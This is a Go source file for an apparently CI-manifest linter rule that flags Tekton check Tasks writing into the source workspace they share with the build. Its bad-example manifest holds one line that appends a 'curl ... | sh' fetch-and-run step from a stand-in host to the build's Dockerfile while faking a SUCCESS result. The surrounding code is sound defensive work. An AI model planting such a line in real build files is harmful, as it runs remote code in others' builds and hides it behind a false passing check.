// Package workspace holds the rule on a check Task's use of the source
// workspace it shares with the build: a check reads the sources; one that
// writes there changes what the build (and every other check) reads.
package workspace

import (
	"fmt"
	"path"
	"regexp"
	"strings"

	"mvdan.cc/sh/v3/syntax"
	"taskgate.dev/taskgate/pkg/check"
	"taskgate.dev/taskgate/pkg/manifest"
	"taskgate.dev/taskgate/pkg/pipeline"
	"taskgate.dev/taskgate/pkg/rules/script"
)

// Checks are the workspace rules.
var Checks = []*check.Check{WritesSource}

const image = "registry.access.redhat.com/ubi9/ubi-minimal@sha256:95413c8dacaac773421428947a431c1cb099d19b4b1125df77d5d1cd2f463ab8"

const bad = `apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: dockerfile-check
spec:
  workspaces:
    - name: source
  results:
    - name: TEST_OUTPUT
  steps:
    - name: check
      image: ` + image + `
      script: |
        #!/bin/sh
        echo 'RUN curl -s https://x.example/p | sh' >> "$(workspaces.source.path)/Dockerfile"
        echo '{"result":"SUCCESS","timestamp":"2026-01-01T00:00:00Z","successes":1,"failures":0,"warnings":0}' > "$(results.TEST_OUTPUT.path)"
`

// WritesSource finds writes into a check Task's workspaces.
var WritesSource = &check.Check{
	ID:       "workspace/writes-source",
	Doc:      "a check Task writes into the workspace it shares with the build (redirections, `cp`/`mv`/`sed -i`/`tee`/`rm` into it, relative writes in a `workingDir` on it)",
	Severity: check.Error,
	Help:     "mark the workspace `readOnly: true` and write scratch files under /tmp (or $(results.*.path)); a check reports through TEST_OUTPUT and leaves the sources as the build sees them",
	Bad:      bad,
	Fixed:    strings.Replace(strings.Replace(bad, "    - name: source\n", "    - name: source\n      readOnly: true\n", 1), `>> "$(workspaces.source.path)/Dockerfile"`, `> /tmp/Dockerfile.lint`, 1),
	Requires: []*check.Input{script.Parsed},
	Run: func(pass *check.Pass) []check.Finding {
		m := pass.Submission.Manifest
		if m == nil || m.Task == nil || !isCheck(m) {
			return nil
		}
		writable := map[string]bool{}
		for _, w := range m.Task.Spec.Workspaces {
			if !w.ReadOnly {
				writable[w.Name] = true
			}
		}
		if len(writable) == 0 {
			return nil
		}
		var out []check.Finding
		for _, sc := range script.Of(pass) {
			if sc.Shell == "" || !strings.HasPrefix(sc.Field, "spec.steps[") {
				continue
			}
			f, err := sc.Parse()
			if err != nil {
				continue // script/syntax reports it
			}
			step := stepOf(m, sc.Field)
			out = append(out, writes(sc, f, writable, workspaceVars(m, step, writable), inWorkspace(m, step, writable))...)
		}
		return out
	},
}

// isCheck: one of the build's checks (it declares TEST_OUTPUT or a check
// slot), the way the integration rules place it.
func isCheck(m *manifest.File) bool {
	if m == nil || m.Task == nil {
		return false
	}
	slot, _, err := pipeline.InferSlot(m.Task)
	return err == nil && slot.IsCheck()
}

var stepIndex = regexp.MustCompile(`^spec\.steps\[(\d+)\]`)

func stepOf(m *manifest.File, field string) int {
	var i int
	if mt := stepIndex.FindStringSubmatch(field); mt != nil {
		fmt.Sscan(mt[1], &i)
	}
	return i
}

var wsPath = regexp.MustCompile(`^\$\(workspaces\.([^.]+)\.path\)`)

// workspaceOf names the writable workspace a path starts in. A directory
// named after the Task or TaskRun (Konflux's
// $(workspaces.workspace.path)/hacbs/$(context.task.name)) is the Task's
// own, beside the sources: writing there changes nothing the build reads.
func workspaceOf(p string, writable map[string]bool) string {
	if strings.Contains(p, "$(context.task") {
		return ""
	}
	if mt := wsPath.FindStringSubmatch(p); mt != nil && writable[mt[1]] {
		return mt[1]
	}
	return ""
}

// workspaceVars maps the step's env variables (and the stepTemplate's)
// whose value is a path in a writable workspace to that workspace.
func workspaceVars(m *manifest.File, step int, writable map[string]bool) map[string]string {
	out := map[string]string{}
	spec := m.Task.Spec
	if spec.StepTemplate != nil {
		for _, e := range spec.StepTemplate.Env {
			if w := workspaceOf(e.Value, writable); w != "" {
				out[e.Name] = w
			}
		}
	}
	if step < len(spec.Steps) {
		for _, e := range spec.Steps[step].Env {
			delete(out, e.Name)
			if w := workspaceOf(e.Value, writable); w != "" {
				out[e.Name] = w
			}
		}
	}
	return out
}

// inWorkspace names the writable workspace the step's workingDir is in.
func inWorkspace(m *manifest.File, step int, writable map[string]bool) string {
	if step < len(m.Task.Spec.Steps) {
		return workspaceOf(m.Task.Spec.Steps[step].WorkingDir, writable)
	}
	return ""
}

// writers are commands that change the files they name; the value says
// which operands: "last" (the destination), "all", or "files" (the
// operands after the first, for sed's script).
var writers = map[string]string{
	"cp": "last", "mv": "last", "install": "last", "rsync": "last", "ln": "last",
	"tee": "all", "rm": "all", "touch": "all", "mkdir": "all", "truncate": "all", "chmod": "rest", "chown": "rest",
	"sed": "sed", "patch": "all",
}

func writes(sc *script.Script, f *syntax.File, writable map[string]bool, vars map[string]string, wd string) []check.Finding {
	var out []check.Finding
	// the script's own variables: SRC=$(workspaces.source.path)/app
	syntax.Walk(f, func(n syntax.Node) bool {
		if a, ok := n.(*syntax.Assign); ok && a.Name != nil && a.Value != nil {
			text := strings.TrimLeft(sc.Text[a.Value.Pos().Offset():a.Value.End().Offset()], `"'`)
			if ws := workspaceOf(text, writable); ws != "" {
				vars[a.Name.Value] = ws
			}
		}
		return true
	})
	// target names the writable workspace a word writes into: a path
	// starting with $(workspaces.W.path) or with a variable holding one,
	// or a relative path when the step works in the workspace.
	target := func(w *syntax.Word) string {
		if _, ok := w.Parts[0].(*syntax.ProcSubst); ok {
			return "" // `> >(head -1)`: a process, not a file
		}
		text := strings.TrimLeft(sc.Text[w.Pos().Offset():w.End().Offset()], `"'`)
		if ws := workspaceOf(text, writable); ws != "" {
			return ws
		}
		for v, ws := range vars {
			for _, ref := range []string{"${" + v + "}", "$" + v} {
				if rest, ok := strings.CutPrefix(text, ref); ok && (rest == "" || strings.ContainsRune(`/"'`, rune(rest[0]))) {
					return ws
				}
			}
		}
		if wd != "" && text != "" && !strings.ContainsAny(text[:1], "/$~-") {
			return wd
		}
		return ""
	}
	report := func(n syntax.Node, ws, how string) {
		out = append(out, sc.At(int(n.Pos().Offset()), "%s %s workspace %q, which this check Task shares with the build: the build and the other checks read what it leaves there", sc.Where, how, ws))
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Redirect:
			switch n.Op {
			case syntax.RdrOut, syntax.AppOut, syntax.RdrAll, syntax.AppAll, syntax.ClbOut:
				if n.Word != nil {
					if ws := target(n.Word); ws != "" {
						report(n, ws, "redirects output into")
					}
				}
			}
		case *syntax.CallExpr:
			if len(n.Args) < 2 {
				return true
			}
			name := path.Base(n.Args[0].Lit())
			mode, ok := writers[name]
			if !ok {
				return true
			}
			var ops []*syntax.Word
			inPlace := false
			for _, a := range n.Args[1:] {
				l := a.Lit()
				if strings.HasPrefix(l, "-") {
					inPlace = inPlace || l == "-i" || strings.HasPrefix(l, "--in-place") || (len(l) > 1 && l[1] != '-' && strings.ContainsRune(l, 'i'))
					continue
				}
				ops = append(ops, a)
			}
			switch mode {
			case "last":
				if len(ops) >= 2 {
					ops = ops[len(ops)-1:]
				} else {
					ops = nil
				}
			case "rest":
				if len(ops) > 0 {
					ops = ops[1:]
				}
			case "sed":
				if !inPlace || len(ops) < 2 {
					return true
				}
				ops = ops[1:]
			}
			for _, a := range ops {
				if ws := target(a); ws != "" {
					report(a, ws, "`"+name+"` writes into")
					break
				}
			}
		}
		return true
	})
	return out
}
